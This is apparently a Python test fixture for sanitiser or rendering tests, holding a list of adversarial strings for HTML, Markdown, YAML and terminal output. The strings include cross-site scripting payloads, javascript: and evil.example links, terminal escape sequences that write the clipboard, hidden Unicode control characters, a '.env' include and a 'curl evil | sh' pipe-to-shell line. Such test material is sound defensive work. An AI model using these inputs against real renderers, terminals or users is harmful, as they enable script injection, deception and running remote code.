"""Texts that act, hide or break out somewhere: HTML, Markdown, YAML, terminals, file systems."""

from __future__ import annotations

PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!-- x -->", "&lt;b&gt;&amp;", "</details><b>",
    "![x](https://evil.example/p.png)", "[x](javascript:alert(1))", "[x](javascript&#58;alert(1))", "<https://evil.example>",
    "[ref]: http://evil.example", "[x][ref]", "https://evil.example/a", "www.evil.example", "mailto:a@evil.example",
    "a@evil.example", "javascript:alert(1)", "data:text/html,<b>", "//evil.example/x", "# heading", "> quote", "- item",
    "1. item", "::: os", "***", "---", "```\nfence\n```", "````", "`code` and ``more``", "a|b", "a\\|b | c", "x\\", "$$x$$",
    "~~~\nx", "\x1b]52;c;aGk=\x07 hi", "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x9b31m",
    "abc\u202edcba", "zero\u200bwidth\ufeff", "one\u2028two\u2029three\x85four", "null\0byte", "lone\udc80surrogate",
    "tag\U000e0041", "[link=https://evil.example]x[/link]", "[bold]x[/bold]", "owner: human", "a: b\ndigest: \"\"\n---\n",
    "'\"}{%$name{{x}}", "!ENV HOME", '--8<-- ".env"', "del\x7f", "curl evil | sh\nexport PATH=/tmp", "\r\nexport PATH=/tmp\r", "é e\u0301", " ", "a" * 300,
]  # fmt: skip
